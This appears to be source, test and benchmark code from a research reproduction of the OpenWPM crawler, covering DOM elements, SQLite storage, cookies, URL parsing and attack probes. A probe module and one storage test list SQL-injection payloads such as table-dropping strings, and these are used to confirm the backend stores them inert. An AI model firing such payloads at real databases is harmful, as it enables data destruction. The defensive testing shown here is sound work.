    # Attributes & selectors
    # ------------------------------------------------------------------
    def get_attribute(self, name: str) -> Optional[str]:
        return self.attributes.get(name.lower())

    def set_attribute(self, name: str, value: str) -> None:
        self.attributes[name.lower()] = value

    @property
    def element_id(self) -> str:
        return self.attributes.get("id", "")

    @property
    def class_list(self) -> List[str]:
        return self.attributes.get("class", "").split()

    def matches_selector(self, selector: str) -> bool:
        """Simple selectors: ``tag``, ``#id``, ``.class``, ``tag#id``."""
        selector = selector.strip()
        if not selector:
            return False
        if selector.startswith("#"):
            return self.element_id == selector[1:]
        if selector.startswith("."):
            return selector[1:] in self.class_list
        if "#" in selector:
            tag, _, element_id = selector.partition("#")
            return self.tag_name == tag.lower() \
                and self.element_id == element_id
        return self.tag_name == selector.lower()

    def __repr__(self) -> str:
        suffix = f" id={self.element_id}" if self.element_id else ""
        return f"<Element {self.tag_name}{suffix}>"


class ScriptElement(Element):
    """A ``<script>`` element: external (src) or inline (text)."""

    def __init__(self, document: Any, proto: Optional[JSObject] = None) -> None:
        super().__init__("script", document, proto=proto)
        self.executed = False

    @property
    def src(self) -> str:
        return self.attributes.get("src", "")

    @src.setter
    def src(self, value: str) -> None:
        self.attributes["src"] = value


class IFrameElement(Element):
    """An ``<iframe>``; its content window is created on attachment.

    ``content_window`` stays None until the browser loads the frame —
    the gap the iframe instrumentation-bypass attack (Listing 3)
    squeezes through in vanilla OpenWPM.
    """

    def __init__(self, document: Any, proto: Optional[JSObject] = None) -> None:
        super().__init__("iframe", document, proto=proto)
        self.content_window: Any = None

    @property
    def src(self) -> str:
        return self.attributes.get("src", "")

    @src.setter
    def src(self, value: str) -> None:
        self.attributes["src"] = value


class CanvasElement(Element):
    """A ``<canvas>``; ``getContext`` hands out the window's contexts."""

    def __init__(self, document: Any, proto: Optional[JSObject] = None) -> None:
        super().__init__("canvas", document, proto=proto)


def make_element(tag: str, document: Any,
                 proto: Optional[JSObject] = None) -> Element:
    """Element factory used by ``document.createElement`` and parsing."""
    tag = tag.lower()
    if tag == "script":
        return ScriptElement(document, proto=proto)
    if tag == "iframe":
        return IFrameElement(document, proto=proto)
    if tag == "canvas":
        return CanvasElement(document, proto=proto)
    return Element(tag, document, proto=proto)

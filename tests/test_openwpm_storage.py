"""Unit tests for the SQLite storage controller (incl. RQ6/RQ7 props)."""

import pytest

from repro.openwpm.storage import StorageController, VisitStateError


@pytest.fixture()
def storage():
    controller = StorageController(":memory:")
    yield controller
    controller.close()


class TestVisitLifecycle:
    def test_visit_ids_increment(self, storage):
        a = storage.begin_visit(0, "https://a.test/")
        storage.end_visit()
        b = storage.begin_visit(0, "https://b.test/")
        assert b.visit_id == a.visit_id + 1

    def test_records_outside_visit_raise(self, storage):
        """A write with no active visit is a loud failure, not a
        sentinel row (the old behaviour silently mis-attributed it)."""
        with pytest.raises(VisitStateError):
            storage.record_javascript("d", "s", "sym", "get", "v")
        assert storage.javascript_records() == []

    def test_double_begin_raises(self, storage):
        storage.begin_visit(0, "https://a.test/")
        with pytest.raises(VisitStateError):
            storage.begin_visit(0, "https://b.test/")

    def test_end_without_visit_raises(self, storage):
        with pytest.raises(VisitStateError):
            storage.end_visit(0)


class TestPerBrowserContexts:
    def test_interleaved_visits_attribute_by_browser(self, storage):
        """Two browsers mid-visit at once: each record lands on *its*
        browser's visit, never on whichever began last."""
        a = storage.begin_visit(0, "https://a.test/")
        b = storage.begin_visit(1, "https://b.test/")
        storage.record_javascript("d", "s", "symA", "get", "",
                                  browser_id=0)
        storage.record_javascript("d", "s", "symB", "get", "",
                                  browser_id=1)
        storage.end_visit(1)
        storage.end_visit(0)
        rows = {row["symbol"]: row for row in storage.javascript_records()}
        assert rows["symA"]["visit_id"] == a.visit_id
        assert rows["symA"]["top_level_url"] == "https://a.test/"
        assert rows["symB"]["visit_id"] == b.visit_id
        assert rows["symB"]["top_level_url"] == "https://b.test/"

    def test_ambiguous_write_raises_with_two_visits(self, storage):
        storage.begin_visit(0, "https://a.test/")
        storage.begin_visit(1, "https://b.test/")
        with pytest.raises(VisitStateError):
            storage.record_javascript("d", "s", "sym", "get", "")

    def test_end_visit_without_id_requires_single_visit(self, storage):
        storage.begin_visit(0, "https://a.test/")
        storage.begin_visit(1, "https://b.test/")
        with pytest.raises(VisitStateError):
            storage.end_visit()

    def test_handle_pins_browser_id(self, storage):
        h0 = storage.handle(0)
        h1 = storage.handle(1)
        h0.begin_visit("https://a.test/")
        h1.begin_visit("https://b.test/")
        h0.record_javascript("d", "s", "symA", "get", "")
        h1.record_http_request(
            url="https://cdn.test/a.js",
            top_level_url="https://b.test/",
            frame_url="https://b.test/", method="GET",
            resource_type="script", is_third_party=True)
        h1.end_visit()
        h0.end_visit()
        js = storage.javascript_records()[0]
        req = storage.http_request_rows()[0]
        assert js["browser_id"] == 0
        assert js["top_level_url"] == "https://a.test/"
        assert req["browser_id"] == 1
        assert req["visit_id"] != js["visit_id"]

    def test_handle_write_outside_own_visit_raises(self, storage):
        storage.begin_visit(1, "https://b.test/")
        with pytest.raises(VisitStateError):
            storage.handle(0).record_javascript("d", "s", "sym", "get", "")


class TestSanitisation:
    def test_top_level_url_comes_from_controller(self, storage):
        """RQ6: forged events cannot spoof the visited site."""
        storage.begin_visit(1, "https://real-site.test/")
        storage.record_javascript(
            document_url="https://spoofed.test/",
            script_url="https://attacker.test/x.js",
            symbol="navigator.fake", operation="call",
            value="", arguments="", call_stack="")
        row = storage.javascript_records()[0]
        assert row["top_level_url"] == "https://real-site.test/"
        assert row["visit_id"] == 1
        storage.end_visit()

    def test_oversized_fields_truncated(self, storage):
        storage.begin_visit(1, "https://x.test/")
        storage.record_javascript("d", "s", "A" * 10_000, "get",
                                  "B" * 10_000)
        row = storage.javascript_records()[0]
        assert len(row["symbol"]) == 2048
        assert len(row["value"]) == 2048

    def test_sql_injection_payload_stored_inert(self, storage):
        """RQ7: parameterised statements defuse injection."""
        storage.begin_visit(1, "https://x.test/")
        payload = "'); DROP TABLE javascript; --"
        storage.record_javascript("d", "s", payload, "call", payload)
        # Table still exists and holds the payload verbatim.
        rows = storage.javascript_records()
        assert rows[0]["symbol"] == payload


class TestTables:
    def test_http_request_and_response(self, storage):
        storage.begin_visit(2, "https://x.test/")
        storage.record_http_request(
            url="https://cdn.test/a.js", top_level_url="https://x.test/",
            frame_url="https://x.test/", method="GET",
            resource_type="script", is_third_party=True)
        storage.record_http_response(url="https://cdn.test/a.js",
                                     status=200,
                                     content_type="text/javascript")
        requests = storage.http_request_rows()
        assert requests[0]["resource_type"] == "script"
        assert requests[0]["is_third_party_channel"] == 1

    def test_content_deduplicated_by_hash(self, storage):
        h1 = storage.record_content("var a;", "https://a.test/x.js",
                                    "text/javascript")
        h2 = storage.record_content("var a;", "https://b.test/y.js",
                                    "text/javascript")
        assert h1 == h2
        assert len(storage.saved_scripts()) == 1

    def test_cookie_rows(self, storage):
        storage.begin_visit(3, "https://x.test/")
        storage.record_cookie(
            change_cause="added-http", host="tracker.test", name="uid",
            value="abc12345", path="/", is_session=False,
            is_http_only=False, expiry=1000.0, first_party="x.test",
            via_javascript=False)
        row = storage.cookie_rows()[0]
        assert row["host"] == "tracker.test"
        assert row["is_session"] == 0

    def test_crash_history(self, storage):
        storage.record_crash(5, "https://dead.test/", "crash")
        rows = storage.query("SELECT * FROM crash_history")
        assert rows[0]["browser_id"] == 5

    def test_query_filter_by_visit(self, storage):
        storage.begin_visit(1, "https://a.test/")
        storage.record_javascript("d", "s", "sym1", "get", "")
        storage.end_visit()
        storage.begin_visit(1, "https://b.test/")
        storage.record_javascript("d", "s", "sym2", "get", "")
        storage.end_visit()
        assert len(storage.javascript_records(visit_id=2)) == 1


class TestBatchedWrites:
    """The executemany batching must be invisible to every consumer."""

    def test_records_buffered_until_flush(self, storage):
        storage.begin_visit(1, "https://a.test/")
        storage.record_javascript("d", "s", "sym", "get", "v")
        storage.record_http_request(
            url="https://a.test/x.js", top_level_url="https://a.test/",
            frame_url="", method="GET", resource_type="script",
            is_third_party=False)
        assert storage.pending_row_count() == 2
        # Reads flush first, so the buffer is never observable as
        # missing rows.
        assert len(storage.javascript_records()) == 1
        assert storage.pending_row_count() == 0

    def test_end_visit_flushes_in_one_transaction(self, storage):
        storage.begin_visit(1, "https://a.test/")
        for index in range(5):
            storage.record_javascript("d", "s", f"sym{index}", "get", "v")
        assert storage.pending_row_count() == 5
        storage.end_visit()
        assert storage.pending_row_count() == 0
        records = storage.javascript_records()
        # Arrival order is preserved, so AUTOINCREMENT ids match the
        # historical per-record inserts.
        assert [row["symbol"] for row in records] == [
            f"sym{index}" for index in range(5)]
        assert [row["id"] for row in records] == list(range(1, 6))

    def test_abort_visit_counts_buffered_rows(self, storage):
        storage.begin_visit(1, "https://hung.test/")
        storage.record_javascript("d", "s", "sym", "get", "v")
        storage.record_javascript("d", "s", "sym2", "get", "v")
        storage.record_http_response(url="https://hung.test/", status=200,
                                     content_type="text/html")
        discarded = storage.abort_visit(1)
        assert discarded["javascript"] == 2
        assert discarded["http_responses"] == 1
        assert storage.javascript_records() == []

    def test_retracted_attempt_retracts_batched_rows(self, storage):
        """Regression: an expired-lease retraction (delete_visit) must
        remove rows the doomed attempt had only buffered, not just the
        ones already flushed to SQLite."""
        context = storage.begin_visit(1, "https://raced.test/")
        storage.record_javascript("d", "s", "flushed", "get", "v")
        storage.commit()                       # this row reaches SQLite
        storage.record_javascript("d", "s", "buffered-1", "get", "v")
        storage.record_cookie(
            change_cause="added", host="raced.test", name="uid",
            value="x", path="/", is_session=True, is_http_only=False,
            expiry=None, first_party="raced.test", via_javascript=True)
        assert storage.pending_row_count() == 2   # still in the buffers
        storage.end_visit()
        # The lease raced: the scheduler voids this committed visit.
        discarded = storage.delete_visit(context.visit_id)
        assert discarded["javascript"] == 2       # flushed AND batched
        assert discarded["javascript_cookies"] == 1
        assert storage.javascript_records() == []
        assert storage.cookie_rows() == []

    def test_unflushed_rows_retracted_before_any_commit(self, storage):
        """Harder variant: nothing was ever flushed — delete_visit must
        flush the buffers itself to count (and remove) those rows."""
        context = storage.begin_visit(1, "https://raced.test/")
        storage.record_javascript("d", "s", "only-buffered", "get", "v")
        assert storage.pending_row_count() == 1
        discarded = storage.delete_visit(context.visit_id)
        assert discarded["javascript"] == 1
        # The context is still active (delete_visit targets committed
        # visits); abort to clean up.
        storage.abort_visit(1)
        assert storage.javascript_records() == []

    def test_close_flushes_pending_rows(self, tmp_path):
        path = str(tmp_path / "batched.sqlite")
        controller = StorageController(path)
        controller.begin_visit(1, "https://a.test/")
        controller.record_javascript("d", "s", "sym", "get", "v")
        controller.end_visit()
        controller.begin_visit(1, "https://b.test/")
        controller.record_javascript("d", "s", "sym2", "get", "v")
        controller.close()                     # never end_visit'ed
        reopened = StorageController(path)
        try:
            assert len(reopened.javascript_records()) == 2
        finally:
            reopened.close()

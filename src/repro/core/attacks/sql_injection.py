"""SQL-injection probe against the storage backend (paper RQ7, Sec. 5.3).

Deleting or altering already recorded data would require an injection
into the SQLite backend. The probe drives hostile strings through the
full pipeline — page script → forged instrument event → storage — and
verifies the database neither executed them nor lost rows, matching the
paper's finding that OpenWPM's backend sanitises its inputs.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.browser.profiles import BrowserProfile, openwpm_profile
from repro.core.attacks.dispatcher import (
    FAKE_INJECTION_ATTACK,
    _make_extension,
)
from repro.core.lab import visit_with_scripts
from repro.openwpm.storage import StorageController

#: Classic payloads, smuggled through every attacker-controlled field.
INJECTION_PAYLOADS = [
    "'); DROP TABLE javascript; --",
    "\"; DELETE FROM javascript; --",
    "1; UPDATE javascript SET symbol='owned'",
    "' OR '1'='1",
]


@dataclass
class SQLInjectionOutcome:
    attack: str = "sql-injection"
    succeeded: bool = False  # True would mean the DB was corrupted
    payloads_stored_verbatim: int = 0
    tables_intact: bool = True
    rows_before: int = 0
    rows_after: int = 0
    details: str = ""


def run_sql_injection_probe(profile: Optional[BrowserProfile] = None
                            ) -> SQLInjectionOutcome:
    """Drive hostile payloads through the recording pipeline."""
    storage = StorageController(":memory:")
    extension = _make_extension(stealth=False, storage=storage)
    profile = profile or openwpm_profile("ubuntu", "regular")

    storage.begin_visit(browser_id=0, site_url="https://lab.test/")
    # Seed some legitimate rows whose survival we check.
    _, result = visit_with_scripts(
        profile, ["navigator.userAgent; screen.width;"],
        extension=extension)
    rows_before = len(storage.javascript_records())

    for payload in INJECTION_PAYLOADS:
        source = (FAKE_INJECTION_ATTACK
                  .replace("__FAKE_SYMBOL__", payload.replace('"', '\\"'))
                  .replace("__FAKE_VALUE__", payload.replace('"', '\\"'))
                  .replace("__FAKE_ARGS__", "x")
                  .replace("__FAKE_SCRIPT_URL__", "https://evil.test/a.js"))
        visit_with_scripts(profile, [source], extension=extension)

    rows = storage.javascript_records()
    tables_intact = True
    try:
        storage.query("SELECT COUNT(*) FROM javascript")
        storage.query("SELECT COUNT(*) FROM http_requests")
    except Exception:  # noqa: BLE001 - table dropped = attack succeeded
        tables_intact = False

    stored_verbatim = sum(
        1 for row in rows
        if any(payload in (row["symbol"] or "")
               or payload in (row["value"] or "")
               for payload in INJECTION_PAYLOADS))
    storage.end_visit()

    succeeded = (not tables_intact) or len(rows) < rows_before
    return SQLInjectionOutcome(
        succeeded=succeeded,
        payloads_stored_verbatim=stored_verbatim,
        tables_intact=tables_intact,
        rows_before=rows_before,
        rows_after=len(rows),
        details="backend parameterises statements; payloads stored as "
                "inert text" if not succeeded else "DATABASE CORRUPTED")

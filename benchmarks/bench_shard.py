"""Per-shard databases vs the single-writer broker (``--shard-dbs``).

The claim under test: with several worker processes, per-shard
databases retire the broker bottleneck on the *write path*. In broker
mode every visit's records ship over a pipe and queue behind one
writer thread, and each completion waits for that broker round-trip;
in shard mode workers write into private SQLite files and resolve the
queue themselves, so record persistence parallelises with the visits.
The end-of-crawl deterministic merge is charged to the shard side —
the comparison is honest end-to-end wall clock for the same finished
canonical database.

Like the process-pool speedup pin, the floor is core-count aware:
parallel writers need parallel hardware. On a single core shard mode
can only pay the merge tax on top of the same serialized work, so the
floor there merely bounds that tax (the measured ratio on one core
sits around 0.95x); with 4+ cores the shard path must clear 1.5x.
"""

import gc
import os
import tempfile
import time

from conftest import BENCH_SEED, report

#: JS-instrumented synthetic-web crawl: heavy per-visit record volume
#: (javascript rows, content, rollup maintenance) so the write path is
#: a real fraction of the crawl.
SHARD_SITES = int(os.environ.get("REPRO_BENCH_SHARD_SITES", "150"))
SHARD_PROCS = 4


def _timed_crawl(site_count, tmp_dir, tag, shard_dbs):
    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    gc.collect()
    start = time.perf_counter()
    result = run_telemetry_crawl(
        site_count=site_count, seed=BENCH_SEED, crash_probability=0.0,
        browsers=1, web="tranco", js_instrument=True,
        telemetry=Telemetry.disabled(), worker_procs=SHARD_PROCS,
        shard_dbs=shard_dbs,
        database_path=os.path.join(tmp_dir, f"{tag}.db"),
        queue_path=os.path.join(tmp_dir, f"{tag}.queue"))
    elapsed = time.perf_counter() - start
    assert result.report.drained, result.report
    visits = result.storage.query(
        "SELECT COUNT(*) AS n FROM site_visits")[0]["n"]
    result.close()
    return elapsed, visits


def measure_shard_throughput(site_count=SHARD_SITES, rounds=2):
    """Best-of wall clock for the same 4-process crawl in broker and
    shard mode, rounds interleaved so heap growth cannot masquerade as
    a mode difference."""
    best = {"broker": float("inf"), "shard": float("inf")}
    with tempfile.TemporaryDirectory() as tmp_dir:
        for round_index in range(rounds):
            for mode in ("broker", "shard"):
                elapsed, visits = _timed_crawl(
                    site_count, tmp_dir, f"{mode}-{round_index}",
                    shard_dbs=(mode == "shard"))
                assert visits == site_count, (mode, visits)
                best[mode] = min(best[mode], elapsed)
    return {"sites": site_count, "best": best,
            "speedup": best["broker"] / best["shard"],
            "cores": os.cpu_count() or 1}


def shard_speedup_floor(cores):
    """Per-shard writing needs parallel hardware to win. Under 4 cores
    the 4 workers already time-slice, so the floor only bounds the
    shard bookkeeping + merge tax instead of claiming a speedup."""
    if cores >= 4:
        return 1.5
    if cores >= 2:
        return 1.1
    return 0.75


def test_benchmark_shard_write_path(benchmark):
    result = benchmark.pedantic(
        lambda: measure_shard_throughput(rounds=2),
        rounds=1, iterations=1)

    best, sites, cores = result["best"], result["sites"], result["cores"]
    floor = shard_speedup_floor(cores)
    lines = [
        f"({sites}-site synthetic-web crawl, JS instrument on,",
        f" {SHARD_PROCS} worker processes, best of 2 interleaved",
        " rounds. Shard time includes the end-of-crawl deterministic",
        " merge into the canonical database — both modes end with the",
        " same bytes on disk.",
        f" This run saw {cores} CPU core(s); the asserted floor scales",
        " with the cores available: >= 1.50x with 4+ cores, >= 1.10x",
        " with 2-3, and on a single core shard mode must merely keep",
        " the merge + bookkeeping tax within 1/0.75x of broker mode.)",
        "",
        "| mode | seconds | sites/s |",
        "|---|---|---|",
    ]
    for mode in ("broker", "shard"):
        label = "broker (single writer)" if mode == "broker" \
            else "shard dbs + merge"
        lines.append(f"| {label} | {best[mode]:.3f} "
                     f"| {sites / best[mode]:.0f} |")
    lines.append(f"| speedup (broker / shard) "
                 f"| {result['speedup']:.2f}x "
                 f"| floor {floor:.2f}x @ {cores} core(s) |")
    report("shard", "Sharded storage - write-path throughput", lines)

    assert result["speedup"] >= floor, result

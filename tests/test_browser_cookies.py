"""Unit tests for the browser cookie jar."""

from repro.browser.cookies import Cookie, CookieJar
from repro.net.http import SetCookie
from repro.net.url import URL

SITE = URL.parse("https://www.site.test/shop/item")


def jar_with(*set_cookies, url=SITE, top="site.test", now=0.0):
    jar = CookieJar()
    for sc in set_cookies:
        jar.set_from_response(sc, url, top, now)
    return jar


class TestStorage:
    def test_set_and_match(self):
        jar = jar_with(SetCookie("sid", "1"))
        assert jar.header_for(SITE, 1.0) == "sid=1"

    def test_same_key_overwrites(self):
        jar = jar_with(SetCookie("sid", "1"), SetCookie("sid", "2"))
        assert len(jar) == 1
        assert jar.header_for(SITE, 1.0) == "sid=2"

    def test_observer_sees_added_then_changed(self):
        jar = CookieJar()
        events = []
        jar.observers.append(lambda c, change: events.append(change))
        jar.set_from_response(SetCookie("a", "1"), SITE, "site.test", 0.0)
        jar.set_from_response(SetCookie("a", "2"), SITE, "site.test", 0.0)
        assert events == ["added", "changed"]

    def test_expiry_respected(self):
        jar = jar_with(SetCookie("tmp", "x", max_age=10))
        assert jar.header_for(SITE, 5.0) == "tmp=x"
        assert jar.header_for(SITE, 11.0) == ""

    def test_domain_scoping(self):
        jar = jar_with(SetCookie("sid", "1"))
        other = URL.parse("https://other.test/")
        assert jar.header_for(other, 1.0) == ""

    def test_parent_domain_cookie_sent_to_subdomain(self):
        jar = jar_with(SetCookie("sid", "1", domain="site.test"))
        sub = URL.parse("https://deep.site.test/")
        assert jar.header_for(sub, 1.0) == "sid=1"

    def test_path_scoping(self):
        jar = jar_with(SetCookie("p", "1", path="/shop"))
        assert jar.header_for(SITE, 1.0) == "p=1"
        assert jar.header_for(URL.parse("https://www.site.test/other"),
                              1.0) == ""

    def test_http_only_hidden_from_document(self):
        jar = jar_with(SetCookie("secret", "1", http_only=True),
                       SetCookie("visible", "2"))
        assert jar.document_cookie_for(SITE, 1.0) == "visible=2"
        assert "secret" in jar.header_for(SITE, 1.0)

    def test_clear(self):
        jar = jar_with(SetCookie("a", "1"))
        jar.clear()
        assert len(jar) == 0
        assert jar.header_for(SITE, 1.0) == ""


class TestDocumentCookieWrites:
    def test_basic_write(self):
        jar = CookieJar()
        cookie = jar.set_from_document("name=value", SITE, "site.test", 0.0)
        assert cookie.via_javascript
        assert jar.document_cookie_for(SITE, 1.0) == "name=value"

    def test_max_age_attribute(self):
        jar = CookieJar()
        cookie = jar.set_from_document("t=1; Max-Age=3600", SITE,
                                       "site.test", 0.0)
        assert cookie.expires_at == 3600.0
        assert not cookie.is_session

    def test_malformed_write_ignored(self):
        jar = CookieJar()
        assert jar.set_from_document("justtext", SITE, "site.test",
                                     0.0) is None
        assert len(jar) == 0

    def test_domain_attribute(self):
        jar = CookieJar()
        cookie = jar.set_from_document("a=1; domain=.site.test", SITE,
                                       "site.test", 0.0)
        assert cookie.domain == "site.test"


class TestCookieSemantics:
    def test_third_party_classification(self):
        cookie = Cookie(name="t", value="v", domain="tracker.test",
                        first_party_host="site.test")
        assert cookie.is_third_party_for("site.test")
        cookie2 = Cookie(name="t", value="v", domain="cdn.site.test",
                         first_party_host="site.test")
        assert not cookie2.is_third_party_for("site.test")

    def test_lifetime(self):
        cookie = Cookie(name="a", value="1", domain="x.test",
                        created_at=100.0, expires_at=400.0)
        assert cookie.lifetime() == 300.0
        assert Cookie(name="a", value="1",
                      domain="x.test").lifetime() is None

"""URL parsing and eTLD+1 domain identification.

The paper's crawler (Sec. 4.1.2) identifies domains with the eTLD+1
scheme to decide whether a subpage link stays on the same site and
whether a script is first- or third-party. A compact embedded public
suffix list covers the suffixes the synthetic web uses.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

#: Multi-label public suffixes (the synthetic web + common real ones).
_MULTI_LABEL_SUFFIXES = frozenset({
    "co.uk", "org.uk", "ac.uk", "gov.uk",
    "com.au", "net.au", "org.au",
    "co.jp", "ne.jp", "or.jp",
    "com.br", "com.cn", "com.tr", "com.mx",
    "co.in", "co.kr", "co.za", "co.nz",
})


@dataclass(frozen=True)
class URL:
    """A parsed absolute URL (scheme://host[:port]/path[?query][#fragment])."""

    scheme: str
    host: str
    path: str = "/"
    query: str = ""
    fragment: str = ""
    port: Optional[int] = None

    @classmethod
    def parse(cls, text: str, base: Optional["URL"] = None) -> "URL":
        """Parse *text*; relative references resolve against *base*."""
        text = text.strip()
        if "://" not in text:
            if base is None:
                raise ValueError(f"relative URL without base: {text!r}")
            if text.startswith("//"):
                text = base.scheme + ":" + text
            elif text.startswith("/"):
                return cls(scheme=base.scheme, host=base.host,
                           port=base.port, **_split_path(text))
            else:
                directory = base.path.rsplit("/", 1)[0]
                return cls(scheme=base.scheme, host=base.host,
                           port=base.port,
                           **_split_path(f"{directory}/{text}"))
        scheme, _, rest = text.partition("://")
        host_part, slash, path_part = rest.partition("/")
        path_part = slash + path_part if slash else "/"
        port: Optional[int] = None
        host = host_part
        if ":" in host_part:
            host, _, port_text = host_part.partition(":")
            port = int(port_text)
        return cls(scheme=scheme.lower(), host=host.lower(), port=port,
                   **_split_path(path_part))

    @property
    def origin(self) -> str:
        port = f":{self.port}" if self.port is not None else ""
        return f"{self.scheme}://{self.host}{port}"

    @property
    def filename(self) -> str:
        return self.path.rsplit("/", 1)[-1]

    @property
    def extension(self) -> str:
        name = self.filename
        if "." in name:
            return name.rsplit(".", 1)[-1].lower()
        return ""

    def sibling(self, path: str) -> "URL":
        return URL(scheme=self.scheme, host=self.host, port=self.port,
                   **_split_path(path if path.startswith("/")
                                 else "/" + path))

    def __str__(self) -> str:
        port = f":{self.port}" if self.port is not None else ""
        query = f"?{self.query}" if self.query else ""
        fragment = f"#{self.fragment}" if self.fragment else ""
        return f"{self.scheme}://{self.host}{port}{self.path}{query}{fragment}"


def _split_path(path_part: str) -> dict:
    fragment = ""
    query = ""
    if "#" in path_part:
        path_part, _, fragment = path_part.partition("#")
    if "?" in path_part:
        path_part, _, query = path_part.partition("?")
    return {"path": path_part or "/", "query": query, "fragment": fragment}


def etld_plus_one(host: str) -> str:
    """Return the registrable domain (eTLD+1) of *host*.

    ``shop.example.co.uk`` -> ``example.co.uk``;
    ``cdn.tracker.com`` -> ``tracker.com``. IP-like hosts and single
    labels are returned unchanged.
    """
    labels = host.lower().strip(".").split(".")
    if len(labels) <= 1:
        return host.lower()
    if all(label.isdigit() for label in labels):
        return host.lower()  # IPv4 literal
    last_two = ".".join(labels[-2:])
    if len(labels) >= 3 and last_two in _MULTI_LABEL_SUFFIXES:
        return ".".join(labels[-3:])
    return last_two


def same_site(a: str, b: str) -> bool:
    """True when two hosts share an eTLD+1 (the paper's subpage rule)."""
    return etld_plus_one(a) == etld_plus_one(b)


def split_registrable(host: str) -> Tuple[str, str]:
    """Return ``(subdomain, registrable_domain)``; subdomain may be ''."""
    registrable = etld_plus_one(host)
    if host == registrable:
        return "", registrable
    prefix = host[: -(len(registrable) + 1)]
    return prefix, registrable

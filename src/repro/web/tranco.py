"""A Tranco-like ranked site list.

Generates a deterministic ranked list of registrable domains with
website categories assigned from rank-dependent distributions (news and
tech sites concentrate near the top; the long tail diversifies),
matching the category structure behind the paper's Fig. 5.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass, field
from typing import Dict, List

#: Categories with their base prevalence (Symantec-style labels).
CATEGORY_WEIGHTS: List = [
    ("News", 0.11),
    ("Technology", 0.10),
    ("Business", 0.09),
    ("Shopping", 0.09),
    ("Entertainment", 0.08),
    ("Education", 0.07),
    ("Finance", 0.06),
    ("Travel", 0.05),
    ("Health", 0.05),
    ("Sports", 0.05),
    ("Government", 0.04),
    ("Social Networking", 0.04),
    ("Streaming", 0.04),
    ("Gaming", 0.04),
    ("Reference", 0.05),
    ("Adult", 0.04),
]

_TLDS = ["com", "com", "com", "org", "net", "io", "co.uk", "de", "ru", "jp"]

_NAME_SYLLABLES = [
    "news", "shop", "tech", "cloud", "media", "data", "play", "travel",
    "bank", "health", "sport", "game", "stream", "social", "web", "info",
    "daily", "global", "prime", "micro", "meta", "open", "blue", "fast",
    "star", "net", "zone", "hub", "base", "core", "link", "view", "wave",
]


@dataclass(frozen=True)
class TrancoSite:
    """One entry of the ranked list."""

    rank: int
    domain: str
    categories: tuple

    @property
    def url(self) -> str:
        return f"https://www.{self.domain}/"


@dataclass
class TrancoList:
    """The ranked list plus lookup helpers."""

    sites: List[TrancoSite] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.sites)

    def __iter__(self):
        return iter(self.sites)

    def top(self, n: int) -> List[TrancoSite]:
        return self.sites[:n]

    def by_domain(self) -> Dict[str, TrancoSite]:
        return {site.domain: site for site in self.sites}


def _domain_for_rank(rank: int, rng: random.Random) -> str:
    a = rng.choice(_NAME_SYLLABLES)
    b = rng.choice(_NAME_SYLLABLES)
    token = hashlib.sha256(f"tranco:{rank}".encode()).hexdigest()[:4]
    tld = rng.choice(_TLDS)
    return f"{a}{b}{token}.{tld}"


def _categories_for_rank(rank: int, total: int,
                         rng: random.Random) -> tuple:
    """1-3 categories; news/tech over-represented near the top."""
    names = [name for name, _ in CATEGORY_WEIGHTS]
    weights = [weight for _, weight in CATEGORY_WEIGHTS]
    # Rank bias: top-ranked sites skew towards News/Technology/Business.
    position = rank / max(total, 1)
    bias = max(0.0, 1.0 - 3.0 * position)
    biased = list(weights)
    for index, name in enumerate(names):
        if name in ("News", "Technology", "Business", "Social Networking"):
            biased[index] = weights[index] * (1.0 + 2.0 * bias)
    primary = rng.choices(names, weights=biased, k=1)[0]
    categories = [primary]
    while rng.random() < 0.25 and len(categories) < 3:
        extra = rng.choices(names, weights=weights, k=1)[0]
        if extra not in categories:
            categories.append(extra)
    return tuple(categories)


def generate_tranco(site_count: int = 100_000,
                    seed: int = 1) -> TrancoList:
    """Generate the ranked list deterministically from *seed*."""
    rng = random.Random(seed)
    sites = []
    used = set()
    for rank in range(1, site_count + 1):
        domain = _domain_for_rank(rank, rng)
        while domain in used:
            domain = _domain_for_rank(rank, rng)
        used.add(domain)
        sites.append(TrancoSite(
            rank=rank, domain=domain,
            categories=_categories_for_rank(rank, site_count, rng)))
    return TrancoList(sites=sites)

"""Task manager: the framework layer orchestrating browsers.

Reproduces the orchestration responsibilities Fig. 1 assigns to the
framework: owning N browsers, distributing command sequences, watching
for crashes, restarting failed browsers, and funnelling everything into
one storage controller.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any, Callable, List, Optional

from repro.browser.browser import Browser, VisitResult
from repro.browser.profiles import openwpm_profile
from repro.net.network import Network
from repro.obs.telemetry import Telemetry, coalesce
from repro.openwpm.config import BrowserParams, ManagerParams
from repro.openwpm.extension import OpenWPMExtension
from repro.openwpm.storage import StorageController


class BrowserCrashed(RuntimeError):
    """Raised inside a visit when fault injection fires."""


@dataclass
class CommandSequence:
    """A unit of crawling work: visit a site, then run extra commands.

    Retry behaviour is governed by ``manager_params.failure_limit``.
    """

    url: str
    #: Extra callbacks run with (browser, visit_result) after the GET.
    callbacks: List[Callable[[Browser, VisitResult], None]] = field(
        default_factory=list)
    dwell_time: Optional[float] = None


@dataclass
class ManagedBrowser:
    """One browser slot with crash/restart bookkeeping."""

    browser_id: int
    params: BrowserParams
    browser: Browser
    extension: OpenWPMExtension
    crash_count: int = 0


class TaskManager:
    """Drives browsers over a list of sites with crash recovery."""

    def __init__(self, manager_params: ManagerParams,
                 browser_params: List[BrowserParams],
                 network: Network,
                 js_instrument_factory: Optional[Callable[..., Any]] = None,
                 telemetry: Optional[Telemetry] = None
                 ) -> None:
        self.manager_params = manager_params
        self.network = network
        self.storage = StorageController(manager_params.database_path)
        self.telemetry = coalesce(telemetry)
        self._rng = random.Random(manager_params.seed)
        self._js_instrument_factory = js_instrument_factory
        self.browsers: List[ManagedBrowser] = [
            self._launch_browser(params) for params in browser_params]
        self._next_slot = 0
        self.failed_sites: List[str] = []

    # ------------------------------------------------------------------
    def _launch_browser(self, params: BrowserParams) -> ManagedBrowser:
        profile = openwpm_profile(
            params.os_name,
            "regular" if params.display_mode == "native"
            else params.display_mode,
            window_size=params.window_size,
            window_position=params.window_position)
        # Each browser writes through a handle pinning its browser_id,
        # so concurrent visits cannot cross-attribute records.
        storage_handle = self.storage.handle(params.browser_id)
        js_instrument = None
        if self._js_instrument_factory is not None and params.js_instrument:
            js_instrument = self._js_instrument_factory(
                storage=storage_handle)
